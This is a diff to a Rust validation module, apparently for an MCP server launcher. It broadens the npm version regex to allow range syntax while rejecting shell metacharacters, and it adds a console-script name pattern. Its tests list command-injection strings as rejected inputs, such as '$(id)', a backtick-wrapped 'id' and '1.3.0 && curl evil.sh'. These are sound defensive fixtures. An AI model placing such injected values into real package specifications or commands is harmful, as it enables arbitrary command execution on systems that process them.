@@ -18,9 +18,12 @@ pub const ENV_NAME_PATTERN: &str = "^[A-Za-z_][A-Za-z0-9_]*$";
 pub const RESERVED_ENV_PREFIX: &str = "MCPFLY_";
 /// npm package names, scoped or not (the grammar of `validate-npm-package-name` for new packages).
 pub const NPM_PACKAGE_PATTERN: &str = "^(?:@[a-z0-9-*~][a-z0-9-*._~]*/)?[a-z0-9-~][a-z0-9-._~]*$";
-/// npm versions, dist-tags and simple ranges (`1.2.3`, `latest`, `^1.2`, `1.0.0-beta.1+b5`): no spaces, no shell
-/// metacharacters.
-pub const NPM_VERSION_PATTERN: &str = "^[~^]?[A-Za-z0-9][A-Za-z0-9.+_-]*$";
+/// npm versions, dist-tags and ranges (`1.2.3`, `latest`, `^1.2`, `1.0.0-beta.1+b5`, `>=1 <2`, `1.x`, `*`,
+/// `^1 || ^2`): the characters of npm's range grammar and nothing else, so no shell metacharacter (`;`, `&`, `$`,
+/// quotes, backticks) passes. The spec's version never reaches a command line; the resolved exact version does.
+pub const NPM_VERSION_PATTERN: &str = "^[A-Za-z0-9~^<>=*][A-Za-z0-9.+_~^<>=*| -]*$";
+/// Python console-script names (`[project.scripts]` keys): no leading dash, so it can never read as an option.
+pub const CONSOLE_SCRIPT_PATTERN: &str = "^[A-Za-z0-9_][A-Za-z0-9._-]*$";
 /// PyPI project names (PEP 508 `identifier`).
 pub const PYPI_PACKAGE_PATTERN: &str = "^([A-Za-z0-9]|[A-Za-z0-9][A-Za-z0-9._-]*[A-Za-z0-9])$";
 /// PyPI versions (PEP 440 characters: `2025.4.7`, `1.0rc1`, `1!2.0.post1+local`): no spaces, no shell metacharacters.
@@ -236,7 +239,19 @@ mod tests {
         ] {
             assert!(is_npm_version(ok), "{ok}");
         }
-        for bad in ["1.2.3 || 2", "$(id)", "1;2", "", ">=1", "1.0 "] {
+        for ok in [">=1 <2", "1.x", "*", "^1 || ^2", "1.2.3 - 2.0.0", "<=2.0.0"] {
+            assert!(is_npm_version(ok), "{ok}");
+        }
+        for bad in [
+            "$(id)",
+            "1;2",
+            "",
+            "1.3.0 && curl evil.sh",
+            "`id`",
+            "1'",
+            "-1",
+            " 1",
+        ] {
             assert!(!is_npm_version(bad), "{bad}");
         }
         for ok in ["2025.4.7", "1.0rc1", "1!2.0.post1+local.1", "0.6.2"] {
